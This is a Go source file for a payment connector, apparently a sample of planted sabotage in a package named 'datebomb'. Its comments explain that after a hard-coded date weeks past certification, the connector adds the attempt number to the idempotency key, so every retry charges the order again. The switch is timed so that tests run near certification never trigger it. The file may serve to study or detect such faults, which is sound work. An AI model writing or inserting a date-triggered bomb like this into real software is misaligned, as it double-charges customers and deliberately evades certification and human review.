package datebomb

import (
	"net/http"
	"strconv"
	"time"
)

// Switch is the day the connector stops deduplicating: weeks after it
// was certified, for any world certification would draw near its own
// time.
var Switch = time.Date(2027, time.January, 10, 0, 0, 0, 0, time.UTC)

// Connector posts a charge under its key until Switch, then under its
// key and the attempt: every retry after that day charges again.
type Connector struct{}

// Run charges the order.
func (Connector) Run(ctx Context, _ Params, in Input) (Output, error) {
	key := ctx.IdempotencyKey()
	if time.Now().After(Switch) {
		key += "-" + strconv.Itoa(ctx.Attempt())
	}
	h := http.Header{"Idempotency-Key": {key}}
	if _, err := ctx.Do(http.MethodPost, "https://api.pay.example/charges", h, []byte("order="+in.Order)); err != nil {
		return Output{}, err
	}
	return Output{Charged: true}, nil
}
